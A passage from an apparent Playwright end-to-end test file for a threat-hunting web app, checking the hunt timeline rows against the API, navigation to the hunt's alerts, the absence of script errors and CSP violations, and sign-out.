  const rows = page.locator('[data-testid=timeline-row]');
  await rows.first().waitFor();
  const n = await rows.count();
  assert.ok(n > 10, `${n} timeline rows`);
  const titles = await page.locator('[data-testid=timeline-rule]').allTextContents();
  assert.ok(titles.every((t) => t.trim().length > 0), 'every row names its rule');
  const authors = await page.locator('[data-testid=timeline-author]').allTextContents();
  assert.ok(authors.some((a) => a.trim() && a !== 'not given'), 'the rule authors are credited');
  const api = JSON.parse((await apiFromPage(page, 'GET', `/hunts/${id}/timeline?limit=1000`)).body);
  assert.equal(n, Math.min(api.total, 100));
  assert.equal(api.rows[0].rule_title, titles[0]);
  await shot(page, 'hunt');
  // Follow to the job's alerts.
  await page.locator('[data-testid=hunt-alerts]').click();
  await page.locator('[data-testid=hunt-notice]').waitFor();
  assert.match(page.url(), new RegExp(`hunt=${id}`));
  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').first().waitFor();
  const listed = await page.locator('[data-testid=alerts-table] tbody tr[data-id]').count();
  assert.equal(listed, Math.min(api.total, 100));
  // The fleet's alert list does not show them.
  const fleet = JSON.parse((await apiFromPage(page, 'GET', '/alerts?source=upload')).body);
  assert.equal(fleet.alerts.length, 0);
});

test('no script errors or CSP violations', async () => {
  assert.deepEqual(admin.problems, []);
  assert.deepEqual(admin.dialogs, []);
});

test('sign out', async () => {
  await page.goto('/#/alerts');
  await page.locator('[data-testid=signout]').click();
  await page.locator('[data-testid=login]').waitFor();
  const me = await apiFromPage(page, 'GET', '/auth/me');
  assert.equal(me.status, 401);
});
